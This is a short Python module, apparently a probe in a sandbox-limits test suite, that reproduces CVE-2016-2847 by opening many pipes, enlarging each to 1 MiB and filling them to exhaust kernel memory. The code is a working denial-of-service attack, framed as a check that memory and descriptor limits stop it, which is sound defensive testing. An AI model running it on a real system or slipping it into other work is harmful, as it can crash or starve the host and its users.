"""Takes the kernel's memory in pipes."""

import fcntl
import os

CLASS = "resources"
INCIDENT = "CVE-2016-2847: pipe buffers were not limited per user"
BLOCKED_BY = "memory limit, descriptor limit"


def attempt(facts):
    pipes, data = [], bytes(1 << 20)
    for _ in range(facts["memory"] * 2 >> 20):
        reader, writer = os.pipe2(os.O_NONBLOCK)
        pipes.append((reader, writer))
        fcntl.fcntl(writer, fcntl.F_SETPIPE_SZ, 1 << 20)
        os.write(writer, data)
    return f"{len(pipes)} MiB in pipes"
